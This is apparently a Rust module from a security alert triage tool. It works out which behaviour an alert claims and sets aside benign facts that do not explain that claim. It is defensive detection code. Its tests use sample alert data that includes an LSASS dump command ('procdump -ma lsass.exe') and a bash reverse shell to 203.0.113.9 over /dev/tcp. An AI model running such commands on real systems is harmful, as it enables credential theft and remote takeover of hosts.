//! The claim an alert makes: the behaviour its detection asserts ("LSASS memory was read",
//! "a sign-in came from an unusual place", "data left for an outside project"). Everything
//! else an alert carries (where the actor was, who it was, which host) is a side attribute.
//!
//! The rule this module serves (verdict.rs): a false alert needs benign evidence that
//! explains *the claim*. A fact about a side attribute clears only an alert whose claim is
//! that attribute: the corporate VPN explains an unusual sign-in location, not DNS
//! tunnelling. And a behaviour that does harm whoever does it (credential dumping,
//! persistence, privilege grants, log or backup deletion, security-tool tampering) is
//! explained only by an allowance that names that behaviour.

use serde_json::json;

use crate::behaviour::Behaviour;
use crate::case::Case;
use crate::judgement::{Covers, Judgement, Weight};
use crate::vocabulary::{
    ATTACK_WORDS, BACKUP_DELETION_WORDS, BRUTE_FORCE_WORDS, C2_CLAIM_WORDS, CREDENTIAL_STORE_WORDS,
    CRYPTOMINING_WORDS, DCSYNC_WORDS, EXFILTRATION_CLAIM_WORDS, INSTANCE_CREDENTIAL_WORDS,
    KERBEROS_WORDS, LATERAL_WORDS, LSASS, LSASS_DUMPERS, LSASS_TOOLS, MALWARE_WORDS, NTDS_WORDS,
    PASSWORD_SPRAY_WORDS, PERSISTENCE_WORDS, POSTURE_WORDS, PRIVILEGE_WORDS, PUBLIC_EXPOSURE_WORDS,
    RANSOMWARE_WORDS, REMOTE_ACCESS_TOOLS, REVERSE_SHELL_WORDS, SCAN_CLAIM_WORDS,
    SCAN_NOTICE_WORDS, SIGN_IN_WORDS, TAMPERING_WORDS, VULNERABILITY_WORDS,
};

/// The claim of one alert.
#[derive(Debug, Clone)]
pub struct Claim {
    pub behaviour: Behaviour,
    /// One sentence: what the detection asserts.
    pub statement: String,
}

/// Whether the source tagged the alert with one of these ATT&CK techniques (or a
/// sub-technique of them).
pub(crate) fn has_technique(case: &Case<'_>, techniques: &[&str]) -> bool {
    case.signals.mitre_techniques.iter().any(|found| {
        techniques.iter().any(|wanted| {
            found
                .strip_prefix(wanted)
                .is_some_and(|rest| rest.is_empty() || rest.starts_with('.'))
        })
    })
}

/// What the alert asserts.
pub fn of(case: &Case<'_>) -> Claim {
    let behaviour = behaviour_of(case);
    let title = crate::truncate(&case.alert.title, 160);
    let statement = match behaviour {
        Behaviour::Other => format!("the detection '{title}'"),
        _ => format!("{} ('{title}')", describe(behaviour)),
    };
    Claim {
        behaviour,
        statement,
    }
}

fn describe(behaviour: Behaviour) -> &'static str {
    match behaviour {
        Behaviour::CredentialDumping => "credentials were dumped",
        Behaviour::Ransomware => "ransomware behaviour",
        Behaviour::SecurityTampering => "logging or a security tool was disabled or deleted",
        Behaviour::BackupDeletion => "backups or snapshots were deleted",
        Behaviour::PrivilegeGrant => "privileges were granted",
        Behaviour::Persistence => "a persistent foothold was created",
        Behaviour::ReverseShell => "a shell was handed to a remote host",
        Behaviour::Cryptomining => "cryptocurrency was mined",
        Behaviour::CredentialGuessing => "passwords were guessed",
        Behaviour::Scanning => "hosts or ports were scanned",
        Behaviour::ExploitAttempt => "an exploit was attempted",
        Behaviour::Exfiltration => "data left the organisation",
        Behaviour::CommandAndControl => "a host talked to command-and-control infrastructure",
        Behaviour::Malware => "a file or process is malicious",
        Behaviour::RemoteAccess => "a remote-control tool or session was used",
        Behaviour::LateralMovement => "an actor moved to another host",
        Behaviour::Execution => "code ran in a suspicious way",
        Behaviour::MessageThreat => "a malicious or impersonating message was sent",
        Behaviour::ExposedSecret => "a secret was exposed",
        Behaviour::SignInAnomaly => "a sign-in was unusual in where or how it came",
        Behaviour::Posture => "a weakness was found",
        Behaviour::Other => "the detection",
    }
}

fn behaviour_of(case: &Case<'_>) -> Behaviour {
    let signals = case.signals;
    if signals.secret.is_some() {
        return Behaviour::ExposedSecret;
    }
    // A message the alert is about (a sender, a threat the gateway named); a mailbox rule
    // or a recipient alone is not a message threat.
    if signals
        .email
        .as_ref()
        .is_some_and(|email| email.sender.is_some() || email.threat_kind.is_some())
    {
        return Behaviour::MessageThreat;
    }
    let credential_dumping = (case.mentions(LSASS) && case.first_mention(LSASS_TOOLS).is_some())
        || case.mentions(LSASS_DUMPERS)
        || case.mentions(DCSYNC_WORDS)
        || case.mentions(NTDS_WORDS)
        || case.mentions(CREDENTIAL_STORE_WORDS)
        || case.mentions(KERBEROS_WORDS)
        || has_technique(case, &["T1003", "T1555", "T1558"]);
    let ordered: [(bool, Behaviour); 21] = [
        (credential_dumping, Behaviour::CredentialDumping),
        (
            case.mentions(RANSOMWARE_WORDS) || has_technique(case, &["T1486"]),
            Behaviour::Ransomware,
        ),
        (case.mentions(REVERSE_SHELL_WORDS), Behaviour::ReverseShell),
        (
            case.mentions(TAMPERING_WORDS) || has_technique(case, &["T1562", "T1070"]),
            Behaviour::SecurityTampering,
        ),
        (
            case.mentions(BACKUP_DELETION_WORDS) || has_technique(case, &["T1490"]),
            Behaviour::BackupDeletion,
        ),
        (
            // Granting rights to someone (a role, a group, sudo), not a process elevating
            // itself: T1548 (elevation through sudo or a prompt) is ordinary administration.
            case.mentions(PRIVILEGE_WORDS) || has_technique(case, &["T1098"]),
            Behaviour::PrivilegeGrant,
        ),
        (
            case.mentions(PERSISTENCE_WORDS)
                || has_technique(case, &["T1053", "T1543", "T1547", "T1136", "T1556"]),
            Behaviour::Persistence,
        ),
        (case.mentions(CRYPTOMINING_WORDS), Behaviour::Cryptomining),
        (
            case.mentions(INSTANCE_CREDENTIAL_WORDS),
            Behaviour::CredentialDumping,
        ),
        (
            case.mentions(BRUTE_FORCE_WORDS)
                || case.mentions(PASSWORD_SPRAY_WORDS)
                || has_technique(case, &["T1110"])
                || signals.sign_in.as_ref().is_some_and(|sign_in| {
                    sign_in.failure_count.unwrap_or(0) >= 10
                        || sign_in.targeted_accounts.unwrap_or(0) >= 5
                }),
            Behaviour::CredentialGuessing,
        ),
        (
            case.mentions(SCAN_NOTICE_WORDS)
                || case.first_word(SCAN_CLAIM_WORDS).is_some()
                || has_technique(case, &["T1046", "T1595"]),
            Behaviour::Scanning,
        ),
        // A finding that a package is vulnerable names a CVE too, but no one attempted
        // anything: a weakness, not an exploit attempt.
        (case.mentions(VULNERABILITY_WORDS), Behaviour::Posture),
        (
            case.mentions(ATTACK_WORDS) || has_technique(case, &["T1190"]),
            Behaviour::ExploitAttempt,
        ),
        (
            case.mentions(EXFILTRATION_CLAIM_WORDS) || has_technique(case, &["T1048", "T1567"]),
            Behaviour::Exfiltration,
        ),
        (
            case.mentions(C2_CLAIM_WORDS) || has_technique(case, &["T1071", "T1572", "T1090"]),
            Behaviour::CommandAndControl,
        ),
        (
            case.first_word(REMOTE_ACCESS_TOOLS).is_some() || has_technique(case, &["T1219"]),
            Behaviour::RemoteAccess,
        ),
        (
            case.mentions(LATERAL_WORDS) || has_technique(case, &["T1021", "T1570"]),
            Behaviour::LateralMovement,
        ),
        (
            case.mentions(MALWARE_WORDS)
                || signals.source_verdict == Some(sleuth_domain::SourceVerdict::Malicious),
            Behaviour::Malware,
        ),
        // A resource made reachable is a weakness opened, whoever's sign-in did it.
        (
            case.mentions(PUBLIC_EXPOSURE_WORDS)
                || signals
                    .cloud
                    .as_ref()
                    .is_some_and(|cloud| cloud.publicly_exposed == Some(true)),
            Behaviour::Posture,
        ),
        (
            (signals.sign_in.is_some()
                && case.category() == Some(sleuth_domain::AlertCategory::Identity))
                || case.mentions(SIGN_IN_WORDS),
            Behaviour::SignInAnomaly,
        ),
        (case.mentions(POSTURE_WORDS), Behaviour::Posture),
    ];
    if let Some((_, found)) = ordered.iter().find(|(applies, _)| *applies) {
        return *found;
    }
    if signals.process.is_some() || has_technique(case, &["T1059", "T1204", "T1609"]) {
        return Behaviour::Execution;
    }
    Behaviour::Other
}

/// Side facts that do not answer the claim are set aside (they stay as findings, with a
/// sentence saying why they do not decide), and when nothing benign answers the claim a
/// finding says so: the verdict is then never a false alert.
pub fn weigh(case: &Case<'_>, claim: &Claim, judgements: &mut Vec<Judgement>) {
    let mut set_aside = Vec::new();
    for judgement in judgements.iter_mut() {
        if !judgement.weight.is_benign() || judgement.covers.answers(claim) {
            continue;
        }
        set_aside.push(judgement.headline.clone());
        judgement.detail = format!(
            "{} This is a fact about {}, not an explanation of what the alert claims ({}); it \
             does not make the alert a false alert.",
            judgement.detail,
            judgement.covers.what(),
            claim.statement
        );
        judgement.weight = Weight::Neutral;
    }
    let answered = judgements
        .iter()
        .any(|judgement| judgement.weight.is_benign());
    // When no check found anything either way, the detection's own claim is what a human
    // must resolve: the verdict names it as its evidence rather than "nothing".
    let judged = judgements.iter().any(|judgement| {
        judgement.weight.is_benign()
            || matches!(
                judgement.weight,
                Weight::Proof | Weight::Malicious | Weight::Suspicious | Weight::Missing
            )
    });
    if !set_aside.is_empty() && !answered {
        judgements.push(
            Judgement::new(
                Weight::Neutral,
                "Nothing benign explains the claim",
                format!(
                    "The alert claims that {}. What is known ({}) is about other things, so it \
                     cannot be closed as a false alert.",
                    claim.statement,
                    set_aside.join("; ")
                ),
            )
            .evidence(
                "claim",
                json!({"behaviour": claim.behaviour.name(), "statement": claim.statement, "side_facts": set_aside}),
            ),
        );
    }
    if !judged {
        let mut unresolved = Judgement::new(
            Weight::Suspicious,
            format!("Unexplained: {}", claim.statement),
            format!(
                "The alert claims that {}. Nothing in the alert, its history or the operator's \
                 context confirms or explains it, so the claim stands for a human to resolve.",
                claim.statement
            ),
        )
        .evidence(
            "claim",
            json!({"behaviour": claim.behaviour.name(), "statement": claim.statement}),
        )
        .restates_claim();
        for value in case.hosts().iter().chain(case.people()).take(4) {
            unresolved = unresolved.artifact(*value);
        }
        if let Some(tactic) = claim.behaviour.tactic() {
            unresolved = unresolved.tactic(tactic);
        }
        judgements.push(unresolved);
    }
}

impl Covers {
    /// Whether benign evidence of this reach answers the claim.
    pub fn answers(&self, claim: &Claim) -> bool {
        match self {
            Covers::Claim => true,
            Covers::Location => claim.behaviour.about_location(),
            Covers::Behaviours(named) => named.contains(&claim.behaviour),
            Covers::Allowance(named) => {
                named.contains(&claim.behaviour) || !claim.behaviour.high_harm()
            }
        }
    }

    /// What a side fact of this reach is about, for the sentence that sets it aside.
    fn what(&self) -> &'static str {
        match self {
            Covers::Location => "where the actor connected from",
            Covers::Behaviours(_) => "something other than what the alert claims",
            Covers::Allowance(_) => {
                "what an allowance permits, which does not name this high-harm behaviour"
            }
            Covers::Claim => "the claim",
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::context::Context;
    use sleuth_domain::History;

    fn claim_of(raw: serde_json::Value) -> Claim {
        let alert = sleuth_parsers::parse_alert(None, &raw, chrono::Utc::now()).unwrap();
        let history = History::default();
        let context = Context::empty();
        of(&Case::new(&alert, &history, &context))
    }

    #[test]
    fn the_claim_is_the_behaviour_the_detection_asserts() {
        let cases = [
            (
                serde_json::json!({"title": "LSASS memory read", "process": {"command_line": "procdump -ma lsass.exe"}}),
                Behaviour::CredentialDumping,
            ),
            (
                serde_json::json!({"title": "Possible DNS tunneling to t.example.net"}),
                Behaviour::Exfiltration,
            ),
            (
                serde_json::json!({"title": "Reverse shell", "cmd": "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"}),
                Behaviour::ReverseShell,
            ),
            (
                serde_json::json!({"title": "Sign-in from unfamiliar location"}),
                Behaviour::SignInAnomaly,
            ),
            (
                serde_json::json!({"title": "Port scan from 10.1.1.1"}),
                Behaviour::Scanning,
            ),
            (
                serde_json::json!({"title": "User added to Domain Admins"}),
                Behaviour::PrivilegeGrant,
            ),
            (
                serde_json::json!({"title": "Something odd"}),
                Behaviour::Other,
            ),
        ];
        for (raw, expected) in cases {
            assert_eq!(claim_of(raw.clone()).behaviour, expected, "{raw}");
        }
    }

    #[test]
    fn benign_evidence_answers_only_the_claims_within_its_reach() {
        let claim = |behaviour| Claim {
            behaviour,
            statement: String::new(),
        };
        assert!(Covers::Location.answers(&claim(Behaviour::SignInAnomaly)));
        assert!(!Covers::Location.answers(&claim(Behaviour::Exfiltration)));
        // An allowance answers ordinary work, and high-harm behaviour only when it names it.
        let sanctioned = Covers::Allowance(vec![Behaviour::BackupDeletion]);
        assert!(sanctioned.answers(&claim(Behaviour::LateralMovement)));
        assert!(sanctioned.answers(&claim(Behaviour::BackupDeletion)));
        assert!(!sanctioned.answers(&claim(Behaviour::CredentialDumping)));
        assert!(!Covers::Allowance(Vec::new()).answers(&claim(Behaviour::PrivilegeGrant)));
        assert!(Covers::Behaviours(&[Behaviour::Malware]).answers(&claim(Behaviour::Malware)));
        assert!(Covers::Claim.answers(&claim(Behaviour::CredentialDumping)));
        for behaviour in Behaviour::ALL {
            assert_eq!(Behaviour::parse(behaviour.name()), Some(*behaviour));
        }
    }

    #[test]
    fn a_side_fact_is_set_aside_and_the_finding_says_nothing_explains_the_claim() {
        let raw = serde_json::json!({"title": "Possible DNS tunneling", "host": "wks-1"});
        let alert = sleuth_parsers::parse_alert(None, &raw, chrono::Utc::now()).unwrap();
        let history = History::default();
        let context = Context::empty();
        let case = Case::new(&alert, &history, &context);
        let claim = of(&case);
        let mut judgements = vec![
            Judgement::new(Weight::Reassures, "Signed in from the VPN", "From the VPN.")
                .covers(Covers::Location),
        ];
        weigh(&case, &claim, &mut judgements);
        assert_eq!(judgements[0].weight, Weight::Neutral);
        assert!(judgements[0].detail.contains("not an explanation"));
        assert_eq!(judgements.len(), 3);
        assert_eq!(judgements[1].headline, "Nothing benign explains the claim");
        assert_eq!(judgements[2].weight, Weight::Suspicious);

        // With nothing judged at all, the claim itself is what stays unresolved.
        let mut judgements = Vec::new();
        weigh(&case, &claim, &mut judgements);
        assert_eq!(judgements.len(), 1);
        assert_eq!(judgements[0].weight, Weight::Suspicious);
        assert!(judgements[0].artifacts.contains(&"wks-1".to_string()));
    }
}
